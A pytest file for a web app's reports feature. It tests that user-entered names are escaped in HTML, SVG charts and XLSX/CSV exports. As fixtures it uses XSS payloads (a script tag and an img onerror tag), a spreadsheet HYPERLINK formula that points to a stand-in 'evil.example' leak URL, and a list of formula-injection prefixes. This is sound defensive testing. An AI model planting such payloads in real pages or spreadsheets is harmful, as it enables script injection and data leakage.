"""Names people type (departments, topics, channels) reach the reports page, its paragraph, its SVG charts and its
spreadsheets: everywhere they stay text. No chart ships a script, and no spreadsheet cell becomes a formula."""
import io
import re
import zipfile
from xml.etree import ElementTree

import pytest
from reporttools import at, csv_rows, page_tables, sheet_rows, workbook

from mcu.extensions import db
from mcu.models import Channel, Department, Topic
from mcu.reports.export import csv_text, formula_like

SCRIPT = "<script>alert(1)</script>"
IMAGE = '<img src=x onerror="alert(2)">'
FORMULA = '=HYPERLINK("https://evil.example/?leak=1","Нажмите")'


def hostile_names(app, make):
    """A department, a topic and a channel renamed by someone hostile, and a message in each."""
    department, topic, channel = make.department("Дороги"), make.topic("Дороги"), make.channel("direct_admin")
    with app.app_context():
        db.session.get(Department, department).short_name = SCRIPT
        db.session.get(Topic, topic).name = FORMULA
        db.session.get(Channel, channel).name = IMAGE
        db.session.commit()
    make.incident(received_at=at("11.01.2021 10:00"), channel_id=channel, topic_id=topic, department_id=department,
                  first_answered_at=at("11.01.2021 11:00"), first_answer_due=at("12.01.2021 10:00"),
                  first_answer_work_minutes=60, status="answered")
    make.incident(received_at=at("12.01.2021 10:00"), topic_id=make.topic("Благоустройство"), channel_id=channel,
                  department_id=make.department("Благоустройство"))


def test_names_are_escaped_on_the_page_and_in_the_paragraph(app, client, auth, make):
    hostile_names(app, make)
    auth.as_role(make, "operator")
    page = client.get("/reports?year=2021").get_data(as_text=True)
    assert SCRIPT not in page and IMAGE not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=&#34;alert(2)&#34;&gt;" in page
    tables, paragraph = page_tables(page)
    assert [SCRIPT, "1", "1", "1", "100,0%", "1,0", "0", "0", "1", "0,0"] == tables["departments"][1]
    assert f"({IMAGE} — 1)" in paragraph  # the text as written, shown as text


@pytest.mark.parametrize("name", ["channels", "topics", "departments", "weeks"])
def test_a_chart_is_well_formed_svg_without_script_with_the_names_as_text(app, client, auth, make, name):
    hostile_names(app, make)
    auth.as_role(make, "viewer")
    response = client.get(f"/reports/chart/{name}.svg?year=2021")
    assert response.status_code == 200
    assert response.mimetype == "image/svg+xml"
    assert response.headers["Content-Security-Policy"] == "default-src 'none'; style-src 'unsafe-inline'"
    svg = response.get_data(as_text=True)
    assert "<script" not in svg and "<img" not in svg
    root = ElementTree.fromstring(svg.encode())
    tags = {element.tag.rsplit("}", 1)[-1] for element in root.iter()}
    assert not tags & {"script", "img", "foreignObject", "a"}
    assert not [name for element in root.iter() for name in element.attrib if name.startswith("on")]
    texts = {element.text for element in root.iter() if element.text}
    if name == "departments":
        assert SCRIPT in texts
    if name == "channels":
        assert IMAGE in texts
    if name == "topics":
        assert any(text.startswith(FORMULA[:30]) for text in texts)


def test_an_unknown_chart_is_a_404(client, auth, make):
    auth.as_role(make, "viewer")
    assert client.get("/reports/chart/people.svg?year=2021").status_code == 404


def test_a_formula_stays_text_in_xlsx(app, client, auth, make):
    hostile_names(app, make)
    auth.as_role(make, "viewer")
    data = client.get("/reports/export.xlsx?year=2021&table=topics").data
    sheet = workbook(data)["Тематики сообщений"]
    cells = [row for row in sheet.iter_rows() if row[0].value == FORMULA]
    assert len(cells) == 1
    cell = cells[0][0]
    assert cell.data_type == "s" and cell.quotePrefix
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere in the sheet
    assert [row[0] for row in sheet_rows(sheet)[6:]] == [FORMULA, "Благоустройство", "Всего"]


def test_a_formula_stays_text_in_csv(app, client, auth, make):
    hostile_names(app, make)
    auth.as_role(make, "viewer")
    rows = csv_rows(client.get("/reports/export.csv?year=2021&table=topics").data)
    assert rows[1] == ["'" + FORMULA, "1", "50,0"]
    rows = csv_rows(client.get("/reports/export.csv?year=2021&table=channels").data)
    assert [row for row in rows if IMAGE in row[0]] == [[IMAGE, "нет", "2", "0", "+2", "", "1"]]


@pytest.mark.parametrize(("value", "guarded"), [
    ("=HYPERLINK(\"https://evil.example\")", True), ("+79990001122", True), ("-2+3", True), ("@SUM(A1)", True),
    ("\t=1", True), ("\r=1", True), ("Дороги", False), ("ЖКХ = жильё", False), ("", False), (-5, False), (3.5, False),
])
def test_the_one_formula_rule(value, guarded):
    assert formula_like(value) is guarded
    if isinstance(value, str):
        assert csv_text(value) == ("'" + value if guarded else value)


def test_negative_differences_stay_numbers_in_both_exports(app, client, auth, make):
    for day in ("10.03.2020 10:00", "11.03.2020 10:00"):
        make.incident(received_at=at(day))
    make.incident(received_at=at("10.03.2021 10:00"))
    auth.as_role(make, "viewer")
    sheet = sheet_rows(workbook(client.get("/reports/export.xlsx?year=2021&table=channels").data)[
        "Сообщения по каналам"])
    assert sheet[6] == ["Инцидент-менеджмент", "да", 1, 2, -1, pytest.approx(-0.5), 0]
    rows = csv_rows(client.get("/reports/export.csv?year=2021&table=channels").data)
    assert rows[1] == ["Инцидент-менеджмент", "да", "1", "2", "-1", "-50,0", "0"]
    assert re.search(r"Снижение количества сообщений по сравнению с 2020 годом составило 50\xa0%",
                     page_tables(client.get("/reports?year=2021").get_data(as_text=True))[1])
